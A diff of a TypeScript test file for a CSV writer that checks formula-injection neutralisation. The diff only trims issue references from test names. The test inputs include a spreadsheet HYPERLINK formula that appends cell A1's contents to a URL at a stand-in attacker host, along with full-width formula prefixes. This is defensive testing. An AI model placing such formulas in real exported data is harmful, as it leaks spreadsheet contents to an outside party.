@@ -6,12 +6,12 @@ import { stringifyCsv, type CsvValue } from './stringify.ts';
 const cell = (value: CsvValue) => stringifyCsv([[value]]).replace(/\r\n$/, '');
 
 describe('a CSV cell', () => {
-  it('neutralises text a spreadsheet would run as a formula (issue 18, finding 7)', () => {
+  it('neutralises text a spreadsheet would run as a formula', () => {
     expect(cell('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`);
     for (const start of ['+', '-', '@', '\t', '\r']) expect(cell(`${start}cmd`).replace(/^"/, '')).toMatch(/^'/);
   });
 
-  it('neutralises the full-width ＝ ＋ － ＠ a spreadsheet normalises to formula starts (issue 28)', () => {
+  it('neutralises the full-width ＝ ＋ － ＠ a spreadsheet normalises to formula starts', () => {
     for (const start of ['＝', '＋', '－', '＠']) expect(cell(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
     expect(cell('＝HYPERLINK("http://evil.example","x")')).toBe(`"'＝HYPERLINK(""http://evil.example"",""x"")"`);
   });
